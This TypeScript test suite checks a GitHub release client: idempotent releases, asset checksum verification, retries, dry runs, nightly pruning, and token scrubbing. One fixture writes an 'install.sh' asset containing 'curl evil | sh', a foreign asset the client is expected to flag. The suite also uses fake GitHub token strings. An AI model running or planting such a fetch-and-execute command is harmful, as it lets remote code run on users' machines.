import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readConfig } from '@bllvm/contract';
import { startGitHubApi, type GitHubApi } from '@bllvm/github-api';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { DEFAULT_REQUEST_TIMEOUT_MS, createCore, worstCaseRequestMs } from './core';
import { wrapError } from './errors';
import { createGitHubClient, GitHubApiError, type GitHubClient, type GitHubClientOptions } from './index';

const TOKEN = 'ghp_clienttest_5f3c2a1b0e9d8c7b6a5f4e3d';
const OWNER = 'BTCDecoded';

let api: GitHubApi;
let dir: string;
let lines: string[];
let errorsSeen: string[];
let repoCounter = 0;
let repo: string;

beforeAll(async () => {
  api = await startGitHubApi({ token: TOKEN });
  dir = mkdtempSync(join(tmpdir(), 'bllvm-github-test-'));
});
afterAll(async () => {
  await api.stop();
  rmSync(dir, { recursive: true, force: true });
});
beforeEach(() => {
  lines = [];
  errorsSeen = [];
  repo = `bllvm-${++repoCounter}`; // a fresh repository per test keeps tests independent
  api.clearFaults();
  api.clearLog();
});
afterEach(async () => {
  expect(api.validationErrors()).toEqual([]);
  // The token must not leak anywhere a person or a CI log could read it.
  const serverLog = JSON.stringify(await (await fetch(`${api.url}/_log`)).json());
  for (const text of [...lines, ...errorsSeen, serverLog]) expect(text).not.toContain(TOKEN);
});

function client(extra: GitHubClientOptions = {}): GitHubClient {
  return createGitHubClient({ baseUrl: api.url, token: TOKEN, retryBaseMs: 5, log: (l) => lines.push(l), ...extra });
}

function file(name: string, content: string | Buffer) {
  const path = join(dir, `${repoCounter}-${name}`);
  writeFileSync(path, content);
  const bytes = Buffer.isBuffer(content) ? content : Buffer.from(content);
  return { name, path, size: bytes.length, sha256: createHash('sha256').update(bytes).digest('hex') };
}

function sha256sums(files: { name: string; sha256: string }[]) {
  return files.map((f) => `${f.sha256}  ${f.name}`).join('\n') + '\n';
}

const mutating = () => api.log().filter((e) => e.mutating);

async function caught(promise: Promise<unknown>): Promise<GitHubApiError> {
  try {
    await promise;
  } catch (error) {
    errorsSeen.push(String(error), (error as Error).stack ?? '', JSON.stringify(error));
    expect(error).toBeInstanceOf(GitHubApiError);
    return error as GitHubApiError;
  }
  throw new Error('expected the call to fail');
}

describe('ensureRelease / getRelease', () => {
  it('converges: twice gives one release, and the second call sends no write', async () => {
    const gh = client();
    const params = { owner: OWNER, repo, tag: 'nightly-20250101-abcdef0', name: 'Nightly 2025-01-01', prerelease: true, targetCommitish: 'f'.repeat(40), body: 'notes' };
    const first = await gh.ensureRelease(params);
    expect(first).toMatchObject({ tag: params.tag, name: params.name, prerelease: true, body: 'notes', draft: false });
    expect(first.uploadUrl.startsWith(`${api.url}/`)).toBe(true);

    api.clearLog();
    const second = await gh.ensureRelease(params);
    expect(second.id).toBe(first.id);
    expect(mutating()).toEqual([]);
    expect(api.state.releases(OWNER, repo)).toHaveLength(1);
    expect(api.state.refs(OWNER, repo)).toEqual([{ ref: `refs/tags/${params.tag}`, sha: 'f'.repeat(40) }]);

    const got = await gh.getRelease(OWNER, repo, params.tag);
    expect(got?.id).toBe(first.id);
    expect(await gh.getRelease(OWNER, repo, 'v9.9.9')).toBeNull();
  });

  it('updates only what differs, with a single PATCH', async () => {
    const gh = client();
    await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0', name: 'v0.1.0', body: 'old' });
    api.clearLog();
    const updated = await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0', name: 'v0.1.0', body: 'new' });
    expect(updated.body).toBe('new');
    expect(mutating().map((e) => `${e.method} ${e.operationId}`)).toEqual(['PATCH repos/update-release']);
  });

  it('refuses to publish a release whose existing tag points at another commit', async () => {
    const gh = client();
    await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.2.0', targetCommitish: '1'.repeat(40) });
    await api.state.deleteReleaseByTag(OWNER, repo, 'v0.2.0');
    const error = await caught(gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.2.0', targetCommitish: '2'.repeat(40) }));
    expect(error.code).toBe('tag_mismatch');
    expect(error.message).toContain(`ensureRelease ${OWNER}/${repo} tag v0.2.0`);
  });
});

describe('drafts and tags', () => {
  it('creates a draft that only an authenticated caller sees, finds it on a rerun, and publishes it once', async () => {
    const gh = client();
    const params = { owner: OWNER, repo, tag: 'v0.3.0', name: 'v0.3.0', targetCommitish: 'a'.repeat(40), draft: true };
    const draft = await gh.ensureRelease(params);
    expect(draft).toMatchObject({ draft: true, publishedAt: null });
    // Not public: get-by-tag does not see it and GitHub has made no tag for it yet.
    expect(await gh.getRelease(OWNER, repo, 'v0.3.0')).toBeNull();
    expect(api.state.refs(OWNER, repo)).toEqual([]);
    const anonymous = await fetch(`${api.url}/repos/${OWNER}/${repo}/releases`);
    expect(anonymous.status).toBe(401);

    api.clearLog();
    const again = await gh.ensureRelease(params);
    expect(again.id).toBe(draft.id);
    expect(mutating()).toEqual([]);
    expect(api.state.releases(OWNER, repo)).toHaveLength(1);

    const published = await gh.publishRelease(again);
    expect(published).toMatchObject({ id: draft.id, draft: false });
    expect(api.state.refs(OWNER, repo)).toEqual([{ ref: 'refs/tags/v0.3.0', sha: 'a'.repeat(40) }]);
    expect((await gh.getRelease(OWNER, repo, 'v0.3.0'))?.id).toBe(draft.id);
    api.clearLog();
    expect((await gh.publishRelease(published)).draft).toBe(false);
    expect(mutating()).toEqual([]);
  });

  it('checks an annotated tag by the commit it tags, refusing one that tags other code', async () => {
    const gh = client();
    const tagObject = api.state.setAnnotatedTag(OWNER, repo, 'v0.4.0', 'b'.repeat(40));
    expect(await gh.tagCommit(OWNER, repo, 'v0.4.0')).toBe('b'.repeat(40));
    const error = await caught(gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.4.0', targetCommitish: 'c'.repeat(40), draft: true }));
    expect(error.code).toBe('tag_mismatch');
    expect(error.message).toContain(`tag v0.4.0 already points at ${'b'.repeat(40)}, not ${'c'.repeat(40)}`);
    expect(error.message).not.toContain(tagObject);
    expect(api.state.releases(OWNER, repo)).toEqual([]);

    const same = await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.4.0', targetCommitish: 'b'.repeat(40), draft: true });
    expect(same.draft).toBe(true);
  });
});

describe('uploadAssets / verifyReleaseAssets', () => {
  it('is idempotent: the second run keeps every asset and sends no write', async () => {
    const gh = client();
    const release = await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' });
    const a = file('bllvm-v0.1.0-linux-x86_64.tar.gz', Buffer.alloc(100_000, 1));
    const m = file('manifest.json', '{"component":"bllvm"}');
    const sums = file('SHA256SUMS', sha256sums([a, m]));
    const first = await gh.uploadAssets(release, [a, m, sums]);
    expect(first.map((r) => r.action)).toEqual(['uploaded', 'uploaded', 'uploaded']);
    expect(first[0]!.asset).toMatchObject({ name: a.name, size: a.size, sha256: a.sha256, state: 'uploaded' });

    api.clearLog();
    const second = await gh.uploadAssets(release, [a, m, sums]);
    expect(second.map((r) => r.action)).toEqual(['kept', 'kept', 'kept']);
    expect(mutating()).toEqual([]);

    expect(await gh.verifyReleaseAssets(release, [a, m, sums])).toEqual([]);
    const stored = api.state.releases(OWNER, repo)[0]!.assets;
    expect(api.state.assetBytes(stored.find((s) => s.name === a.name)!.id)).toEqual(Buffer.alloc(100_000, 1));
  });

  it('refuses to overwrite a different asset unless replace is set', async () => {
    const gh = client();
    const release = await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' });
    await gh.uploadAssets(release, [file('bllvm.tar.gz', 'version one')]);
    const changed = file('bllvm.tar.gz', 'version two!');

    api.clearLog();
    const error = await caught(gh.uploadAssets(release, [changed]));
    expect(error.code).toBe('asset_conflict');
    expect(error.message).toContain('asset bllvm.tar.gz');
    expect(mutating()).toEqual([]);

    const replaced = await gh.uploadAssets(release, [changed], { replace: true });
    expect(replaced[0]!.action).toBe('replaced');
    const [stored] = api.state.releases(OWNER, repo)[0]!.assets;
    expect(api.state.assetBytes(stored!.id)!.toString()).toBe('version two!');
  });

  it('names every foreign and wrong asset at once, and with replace repairs the release exactly', async () => {
    const gh = client();
    const release = await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0', draft: true });
    const a = file('a.tar.gz', 'aaa');
    const sums = file('SHA256SUMS', sha256sums([a]));
    const bogusSums = { ...file('bogus-SHA256SUMS', sha256sums([{ name: a.name, sha256: '0'.repeat(64) }])), name: 'SHA256SUMS' };
    const installer = file('install.sh', '#!/bin/sh\ncurl evil | sh\n');
    await gh.uploadAssets(release, [a, bogusSums, installer]);

    api.clearLog();
    const error = await caught(gh.uploadAssets(release, [a, sums], { exact: true }));
    expect(error.code).toBe('foreign_assets');
    expect(error.message).toContain('SHA256SUMS: held with different content');
    expect(error.message).toContain('install.sh: foreign asset');
    expect(mutating()).toEqual([]);
    const problems = await gh.verifyReleaseAssets(release, [a, sums]);
    expect(problems).toEqual([
      `SHA256SUMS: GitHub reports sha256 ${bogusSums.sha256}, expected ${sums.sha256}`,
      'install.sh: foreign asset on release v0.1.0 (not part of it)',
      `a.tar.gz: SHA256SUMS lists ${'0'.repeat(64)}, expected ${a.sha256}`,
    ]);

    const repaired = await gh.uploadAssets(release, [a, sums], { exact: true, replace: true });
    expect(repaired.map((r) => `${r.name} ${r.action}`)).toEqual(['a.tar.gz kept', 'SHA256SUMS replaced']);
    expect(api.state.releases(OWNER, repo)[0]!.assets.map((x) => x.name).sort()).toEqual(['SHA256SUMS', 'a.tar.gz']);
    expect(await gh.verifyReleaseAssets(release, [a, sums])).toEqual([]);
  });

  it('reports missing assets, wrong sizes and checksum mismatches', async () => {
    const gh = client();
    const release = await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' });
    const a = file('a.tar.gz', 'aaa');
    const b = file('b.tar.gz', 'bbb');
    const sums = file('SHA256SUMS', sha256sums([{ name: a.name, sha256: b.sha256 }]));
    await gh.uploadAssets(release, [a, sums]);
    const problems = await gh.verifyReleaseAssets(release, [{ ...a, size: 4 }, b, sums]);
    expect(problems).toEqual([
      'a.tar.gz: size 3, expected 4',
      'b.tar.gz: missing from release v0.1.0',
      `a.tar.gz: SHA256SUMS lists ${b.sha256}, expected ${a.sha256}`,
      'b.tar.gz: not listed in SHA256SUMS',
    ]);
  });

  it('accepts the files that vouch for SHA256SUMS unlisted in it, and only those', async () => {
    const gh = client();
    const release = await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' });
    const a = file('a.tar.gz', 'aaa');
    const sig = file('SHA256SUMS.asc', 'signature');
    const sums = file('SHA256SUMS', sha256sums([a]));
    await gh.uploadAssets(release, [a, sig, sums]);
    expect(await gh.verifyReleaseAssets(release, [a, sig, sums])).toEqual(['SHA256SUMS.asc: not listed in SHA256SUMS']);
    expect(await gh.verifyReleaseAssets(release, [a, sig, sums], undefined, (n) => n.endsWith('.asc'))).toEqual([]);
  });
});

describe('resilience against the local server faults', () => {
  it('retries two 502s, then succeeds', async () => {
    const gh = client();
    api.injectFault({ kind: 'status', status: 502, method: 'POST', path: `/${repo}/releases$`, times: 2 });
    const release = await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' });
    expect(release.id).toBeGreaterThan(0);
    expect(api.log().filter((e) => e.method === 'POST').map((e) => e.status)).toEqual([502, 502, 201]);
    expect(api.state.releases(OWNER, repo)).toHaveLength(1);
  });

  it('gives up on a server that accepts the request and never answers, within its time limit', async () => {
    const gh = client({ requestTimeoutMs: 300, retries: 2 });
    api.injectFault({ kind: 'hang', method: 'GET', path: `/${repo}/releases/tags/`, times: 10 });
    const started = Date.now();
    const error = await caught(gh.getRelease(OWNER, repo, 'v0.1.0'));
    expect(Date.now() - started).toBeLessThan(5000);
    expect(error.code).toBe('timeout');
    expect(error.message).toMatch(/getRelease BTCDecoded\/bllvm-\d+ tag v0\.1\.0 failed: GitHub \(or a proxy in front of it\) accepted the connection but sent no answer: no answer within 0\.3 s, after retries/);
    expect(api.log().filter((e) => e.fault === 'hang')).toHaveLength(3); // the first try and 2 retries
  });

  it('gives up an upload that gets no answer after the client\'s own retries, not again on top of them', async () => {
    // The upload's recovery (list the assets, retry the upload) is for a connection cut mid-body;
    // repeating a request that already went unanswered through every retry multiplies the wait.
    const gh = client({ requestTimeoutMs: 300, retries: 2 });
    const release = await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' });
    api.clearLog();
    api.injectFault({ kind: 'hang', method: 'POST', path: '/assets\\?name=', times: 100 });
    const started = Date.now();
    const error = await caught(gh.uploadAssets(release, [file('a.tar.gz', 'a')]));
    expect(error.code).toBe('timeout');
    expect(api.log().filter((e) => e.fault === 'hang')).toHaveLength(3); // the first try and 2 retries, once
    expect(api.log().filter((e) => e.method === 'GET' && e.path.includes('/assets'))).toHaveLength(1); // the listing before uploading, none after
    expect(Date.now() - started).toBeLessThan(3000);
  });

  it('bounds what one unanswered request costs at the defaults well below the publish deadline', () => {
    // GitHub ends an API request itself after 10 s, so 30 s without an answer is something in between.
    expect(DEFAULT_REQUEST_TIMEOUT_MS).toBe(30_000);
    // 4 tries of 30 s plus back-off of 1, 4 and 9 s: what a publish waits before it says GitHub stopped answering.
    expect(worstCaseRequestMs({})).toBe(134_000);
    expect(worstCaseRequestMs({ requestTimeoutMs: 300, retries: 2, retryBaseMs: 5 })).toBe(3 * 300 + 5 + 20);
    // An upload gets its body's time at 256 KiB/s on top, per try.
    expect(worstCaseRequestMs({ retries: 0 }, 256 * 1024 * 10)).toBe(40_000);
  });

  it('stops at the deadline of the whole operation, however many retries are left', async () => {
    const gh = client({ requestTimeoutMs: 60_000, retries: 5, deadline: new Date(Date.now() + 400) });
    api.injectFault({ kind: 'hang', method: 'GET', path: `/${repo}/releases/tags/`, times: 10 });
    const started = Date.now();
    const error = await caught(gh.getRelease(OWNER, repo, 'v0.1.0'));
    expect(Date.now() - started).toBeLessThan(5000);
    expect(error.code).toBe('deadline');
    expect(error.message).toContain('the publish deadline passed before GitHub answered; nothing is lost, rerun the same command');
  });

  it('does not wait out retry back-off once the deadline has passed', async () => {
    // Back-off of 1 s, 4 s, 9 s: without the deadline stopping the retries this takes over 14 s.
    const gh = client({ requestTimeoutMs: 60_000, retries: 3, retryBaseMs: 1000, deadline: new Date(Date.now() + 300) });
    api.injectFault({ kind: 'hang', method: 'GET', path: `/${repo}/releases/tags/`, times: 10 });
    const started = Date.now();
    const error = await caught(gh.getRelease(OWNER, repo, 'v0.1.0'));
    expect(error.code).toBe('deadline');
    expect(Date.now() - started).toBeLessThan(3000);
  });

  it('reports an HTML gateway page as a gateway error, not as what GitHub said', async () => {
    const gh = client({ retries: 1 });
    api.injectFault({ kind: 'gateway-html', status: 502, method: 'POST', path: `/${repo}/releases$`, times: 2 });
    const error = await caught(gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' }));
    expect(error.status).toBe(502);
    expect(error.code).toBe('gateway');
    expect(error.message).toMatch(/failed: GitHub gateway error \(HTTP 502\), still failing after retries; nothing is lost, rerun later$/);
    expect(error.message).not.toContain('<html>');
  });

  it('waits out a secondary rate limit (retry-after) and succeeds', async () => {
    const gh = client();
    api.injectFault({ kind: 'secondary-rate-limit', method: 'GET', path: `/${repo}/releases/tags/`, retryAfterSeconds: 1 });
    const started = Date.now();
    await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' });
    expect(api.log()[0]).toMatchObject({ status: 403, fault: 'secondary-rate-limit' });
    expect(api.log()[1]).toMatchObject({ status: 404, operationId: 'repos/get-release-by-tag' });
    expect(lines.some((l) => /secondary rate limit .*retry 1\/3 after 1s/.test(l))).toBe(true);
    expect(Date.now() - started).toBeLessThan(5000); // retry-after honoured in retryBaseMs units
  });

  it('waits out a primary rate limit (429, x-ratelimit-reset) and succeeds', async () => {
    const gh = client();
    api.injectFault({ kind: 'primary-rate-limit', status: 429, method: 'POST', path: `/${repo}/releases$` });
    await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' });
    expect(api.log().filter((e) => e.method === 'POST').map((e) => e.status)).toEqual([429, 201]);
    expect(lines.some((l) => /primary rate limit/.test(l))).toBe(true);
  });

  it('gives up after a bounded number of rate-limit retries', async () => {
    const gh = client({ rateLimitRetries: 2 });
    api.injectFault({ kind: 'secondary-rate-limit', method: 'GET', path: `/${repo}/releases/tags/`, times: 10 });
    const error = await caught(gh.getRelease(OWNER, repo, 'v0.1.0'));
    expect(error.status).toBe(403);
    expect(error.message).toMatch(/getRelease .* HTTP 403: You have exceeded a secondary rate limit/);
    expect(api.log()).toHaveLength(3);
  });

  it('recovers within one run from a connection dropped mid-upload', async () => {
    const gh = client();
    const release = await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' });
    const big = file('bllvm.tar.gz', Buffer.alloc(512 * 1024, 3));
    api.injectFault({ kind: 'drop-connection', method: 'POST', path: '/assets\\?name=bllvm.tar.gz', afterBytes: 4096 });
    const [result] = await gh.uploadAssets(release, [big]);
    expect(result).toMatchObject({ action: 'uploaded', asset: { state: 'uploaded', size: big.size, sha256: big.sha256 } });
    const posts = api.log().filter((e) => e.operationId === 'repos/upload-release-asset');
    // dropped, then plugin-retry's resend hits the starter (422), then delete + re-upload
    expect(posts.map((e) => e.status)).toEqual([0, 422, 201]);
    expect(api.log().some((e) => e.operationId === 'repos/delete-release-asset' && e.status === 204)).toBe(true);
    expect(api.state.releases(OWNER, repo)[0]!.assets).toMatchObject([{ name: big.name, state: 'uploaded', sha256: big.sha256 }]);
  });

  it('converges on the next run after a run that died mid-upload', async () => {
    const release = await client().ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' });
    const big = file('bllvm.tar.gz', Buffer.alloc(300_000, 9));
    api.injectFault({ kind: 'drop-connection', method: 'POST', path: '/assets\\?', afterBytes: 1000 });
    const error = await caught(client({ retries: 0 }).uploadAssets(release, [big], { attempts: 1 }));
    expect(error.code).toBe('network');
    expect(error.message).toContain('uploadAsset');
    expect(api.state.releases(OWNER, repo)[0]!.assets).toMatchObject([{ name: big.name, state: 'starter', size: 0 }]);

    const next = client();
    const again = await next.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' });
    const [result] = await next.uploadAssets(again, [big]);
    expect(result!.action).toBe('repaired');
    const [stored] = api.state.releases(OWNER, repo)[0]!.assets;
    expect(stored).toMatchObject({ state: 'uploaded', size: big.size, sha256: big.sha256 });
    expect(await next.verifyReleaseAssets(again, [big])).toEqual(['SHA256SUMS: missing from release v0.1.0']);
  });

  it('fails clearly when the release is deleted between two steps, and the next run converges', async () => {
    const gh = client();
    const release = await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' });
    api.injectFault({ kind: 'delete-release', owner: OWNER, repo, tag: 'v0.1.0', method: 'GET', path: '/assets' });
    const error = await caught(gh.uploadAssets(release, [file('a.txt', 'a')]));
    expect(error.status).toBe(404);
    expect(error.message).toContain(`listAssets ${OWNER}/${repo} tag v0.1.0 failed: HTTP 404`);

    const again = await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' });
    expect(again.id).not.toBe(release.id);
    expect((await gh.uploadAssets(again, [file('a.txt', 'a')]))[0]!.action).toBe('uploaded');
    expect(api.state.releases(OWNER, repo)).toHaveLength(1);
  });
});

describe('dry run', () => {
  it('sends only reads and records every write it would make', async () => {
    const dry = client({ dryRun: true });
    const a = file('bllvm.tar.gz', 'bytes');
    const release = await dry.ensureRelease({ owner: OWNER, repo, tag: 'nightly-20250102-0123abc', prerelease: true });
    expect(release.planned).toBe(true);
    const uploads = await dry.uploadAssets(release, [a]);
    expect(uploads).toMatchObject([{ name: a.name, action: 'uploaded', dryRun: true, asset: null }]);
    await dry.sendDeploy({ owner: OWNER, repo: 'governance-app', tag: release.tag, image: `ghcr.io/btcdecoded/governance-app:${release.tag}` });

    // An existing release, changed: the PATCH and the uploads are planned, not sent.
    const real = await client().ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0', body: 'old' });
    api.clearLog();
    await dry.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0', body: 'new' });
    await dry.uploadAssets(real, [a]);

    expect(mutating()).toEqual([]);
    expect(api.log().length).toBeGreaterThan(0);
    expect(dry.plannedWrites.map((w) => `${w.method} ${w.route}`)).toEqual([
      `POST /repos/${OWNER}/${repo}/releases`,
      `POST /repos/${OWNER}/${repo}/releases/0/assets?name=bllvm.tar.gz`,
      `POST /repos/${OWNER}/governance-app/dispatches`,
      `PATCH /repos/${OWNER}/${repo}/releases/${real.id}`,
      `POST /repos/${OWNER}/${repo}/releases/${real.id}/assets?name=bllvm.tar.gz`,
    ]);
    expect(lines.filter((l) => l.startsWith('would '))).toHaveLength(5);
    expect(api.state.releases(OWNER, repo)).toHaveLength(1);
    expect(api.state.releases(OWNER, repo)[0]!.body).toBe('old');
    expect(api.state.dispatches().filter((d) => d.repo === 'governance-app' && d.clientPayload['tag'] === release.tag)).toEqual([]);
  });
});

describe('dry run guard and write pacing', () => {
  it('blocks writes sent through the raw Octokit in a dry run', async () => {
    const dry = client({ dryRun: true });
    await expect(dry.octokit.rest.repos.createRelease({ owner: OWNER, repo, tag_name: 'v0.1.0' })).rejects.toThrow(/dry run: refusing to send POST/);
    expect(mutating()).toEqual([]);
  });

  it('spaces mutating requests by writeSpacingMs (what plugin-throttling does for GitHub)', async () => {
    const gh = client({ writeSpacingMs: 150 });
    const started = Date.now();
    await gh.sendDispatch(OWNER, repo, 'a');
    await gh.sendDispatch(OWNER, repo, 'b');
    await gh.sendDispatch(OWNER, repo, 'c');
    expect(Date.now() - started).toBeGreaterThanOrEqual(300);
    expect(mutating()).toHaveLength(3);
  });
});

describe('pruneNightlies', () => {
  it('keeps the newest N nightly prereleases and deletes only older nightlies and their tags', async () => {
    const gh = client();
    const nightly = ['nightly-20250103-aaaaaaa', 'nightly-20250105-bbbbbbb', 'nightly-20250101-ccccccc', 'nightly-20250104-ddddddd', 'nightly-20250102-eeeeeee'];
    for (const tag of nightly) await gh.ensureRelease({ owner: OWNER, repo, tag, prerelease: true });
    await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' });
    await gh.ensureRelease({ owner: OWNER, repo, tag: 'nightly-20240101-fffffff', prerelease: false }); // not a prerelease
    await gh.ensureRelease({ owner: OWNER, repo, tag: 'nightly-2024-01-01', prerelease: true }); // wrong shape
    await gh.ensureRelease({ owner: OWNER, repo, tag: 'nightly-20240101-ABCDEF0', prerelease: true }); // upper-case sha
    await gh.octokit.rest.repos.createRelease({ owner: OWNER, repo, tag_name: 'nightly-20240102-1111111', prerelease: true, draft: true });
    await gh.octokit.rest.git.createRef({ owner: OWNER, repo, ref: 'refs/tags/nightly-20240103-2222222', sha: '3'.repeat(40) }); // a tag without release

    const result = await gh.pruneNightlies({ owner: OWNER, repo, keep: 2 });
    expect(result).toEqual({
      kept: ['nightly-20250105-bbbbbbb', 'nightly-20250104-ddddddd'],
      deleted: ['nightly-20250103-aaaaaaa', 'nightly-20250102-eeeeeee', 'nightly-20250101-ccccccc'],
      dryRun: false,
    });
    const tags = api.state.releases(OWNER, repo).map((r) => r.tagName).sort();
    expect(tags).toEqual(
      ['nightly-20250105-bbbbbbb', 'nightly-20250104-ddddddd', 'v0.1.0', 'nightly-20240101-fffffff', 'nightly-2024-01-01', 'nightly-20240101-ABCDEF0', 'nightly-20240102-1111111'].sort(),
    );
    const refs = api.state.refs(OWNER, repo).map((r) => r.ref);
    for (const gone of result.deleted) expect(refs).not.toContain(`refs/tags/${gone}`);
    for (const kept of ['v0.1.0', 'nightly-20250105-bbbbbbb', 'nightly-20240101-fffffff', 'nightly-20240103-2222222']) {
      expect(refs).toContain(`refs/tags/${kept}`);
    }

    api.clearLog();
    expect((await gh.pruneNightlies({ owner: OWNER, repo, keep: 2 })).deleted).toEqual([]);
    expect(mutating()).toEqual([]);
  });

  it('in a dry run only plans the deletions', async () => {
    const gh = client();
    for (const tag of ['nightly-20250101-aaaaaaa', 'nightly-20250102-bbbbbbb']) await gh.ensureRelease({ owner: OWNER, repo, tag, prerelease: true });
    api.clearLog();
    const dry = client({ dryRun: true });
    const result = await dry.pruneNightlies({ owner: OWNER, repo, keep: 1 });
    expect(result).toMatchObject({ deleted: ['nightly-20250101-aaaaaaa'], dryRun: true });
    expect(dry.plannedWrites.map((w) => w.method)).toEqual(['DELETE', 'DELETE']);
    expect(mutating()).toEqual([]);
    expect(api.state.releases(OWNER, repo)).toHaveLength(2);
  });
});

describe('dispatch', () => {
  it('sends deploy with {tag, image}, recorded by the server', async () => {
    await client().sendDeploy({ owner: OWNER, repo: 'governance-app', tag: 'v0.1.0', image: 'ghcr.io/btcdecoded/governance-app:v0.1.0' });
    expect(api.state.dispatches().at(-1)).toMatchObject({
      owner: OWNER,
      repo: 'governance-app',
      eventType: 'deploy',
      clientPayload: { tag: 'v0.1.0', image: 'ghcr.io/btcdecoded/governance-app:v0.1.0' },
    });
  });

  it('refuses a payload with more than 10 top-level keys before sending', async () => {
    const payload = Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`key${i}`, i]));
    const error = await caught(client().sendDispatch(OWNER, repo, 'build_all', payload));
    expect(error.code).toBe('invalid_dispatch');
    expect(error.message).toMatch(/11 top-level keys/);
    expect(api.log()).toEqual([]);
  });
});

describe('authentication and secrecy', () => {
  it('gets a clear 401 without a token, and never shows the token', async () => {
    // No token given: none is taken from the environment either (the configuration is read at the edge).
    const saved = process.env['GITHUB_TOKEN'];
    process.env['GITHUB_TOKEN'] = TOKEN;
    try {
      const anonymous = createGitHubClient({ baseUrl: api.url, retryBaseMs: 5, log: (l) => lines.push(l) });
      const error = await caught(anonymous.getRelease(OWNER, repo, 'v0.1.0'));
      expect(error.status).toBe(401);
      expect(error.message).toBe(`getRelease ${OWNER}/${repo} tag v0.1.0 failed: HTTP 401: Requires authentication`);
    } finally {
      if (saved === undefined) delete process.env['GITHUB_TOKEN'];
      else process.env['GITHUB_TOKEN'] = saved;
    }
    const wrong = client({ token: `${TOKEN}-wrong` });
    const bad = await caught(wrong.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' }));
    expect(bad.message).toContain('HTTP 401: Bad credentials');
    expect(bad.message).not.toContain(`${TOKEN}-wrong`);
  });

  it('scrubs the token from errors and log lines in every form: literal, URL-encoded, base64, in a header, whatever its shape', () => {
    // A GitHub Enterprise or proxy token need not look like ghp_…: only its value identifies it.
    const opaque = 'ent-7Qx2+Vw9/Lm4=Kp8zR';
    // And one no one configured here, found by its GitHub shape (an installation token).
    const shaped = 'ghs_Zq7Rk2Lm9Xw4Nv8Bt1Cy6Uh3Jl5Pa0Sd8Fg2Hk';
    const forms = [
      opaque,
      encodeURIComponent(opaque),
      Buffer.from(`x-access-token:${opaque}`).toString('base64'),
      Buffer.from(`ci:${opaque}\n`).toString('base64url'),
      `authorization: 'token ${opaque}'`,
      `Authorization: BEARER ${opaque}`,
      shaped,
      Buffer.from(`x-access-token:${shaped}`).toString('base64'),
    ];
    const said = forms.join('\n');
    const context = { operation: 'getRelease', owner: OWNER, repo: 'r' };
    const transport = wrapError(Object.assign(new Error(`request failed: ${said}`), { name: 'HttpError' }), context, [opaque]);
    const answered = wrapError({ status: 400, message: 'x', response: { data: { message: `echo: ${said}`, errors: [{ message: said }] } } }, context, [opaque]);
    const logged: string[] = [];
    createCore({ baseUrl: 'http://127.0.0.1:9', token: opaque, log: (l) => logged.push(l) }).log(`retrying: ${said}`);
    for (const text of [transport.message, answered.message, answered.githubMessage ?? '', ...logged]) {
      for (const secret of [opaque, encodeURIComponent(opaque), shaped.slice(4), ...forms.slice(2, 4), forms[7]!]) expect(text).not.toContain(secret);
      expect(text).not.toMatch(/Kp8zR|Zq7Rk2/);
    }
    expect(logged).toHaveLength(1);
    expect(logged[0]!.split('\n')).toEqual(['retrying: ***', '***', '***', '***', "authorization: 'token ***'", 'Authorization: BEARER ***', '***', '***']);
  });

  it('takes base URL and token from GITHUB_API_URL and GITHUB_TOKEN, through the configuration', async () => {
    const { github } = readConfig('/ws', { GITHUB_API_URL: api.url, GITHUB_TOKEN: TOKEN });
    const gh = createGitHubClient({ baseUrl: github.apiUrl, token: github.token, retryBaseMs: 5, log: (l) => lines.push(l) });
    expect(gh.baseUrl).toBe(api.url);
    expect(await gh.getRelease(OWNER, repo, 'v0.1.0')).toBeNull();
  });

  it('points upload_url at the configured host when that is not api.github.com', async () => {
    const viaLocalhost = client({ baseUrl: api.url.replace('127.0.0.1', 'localhost') });
    const release = await viaLocalhost.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0' });
    expect(release.uploadUrl).toBe(`${viaLocalhost.baseUrl}/repos/${OWNER}/${repo}/releases/${release.id}/assets{?name,label}`);
    expect((await viaLocalhost.uploadAssets(release, [file('x.txt', 'x')]))[0]!.action).toBe('uploaded');
  });
});
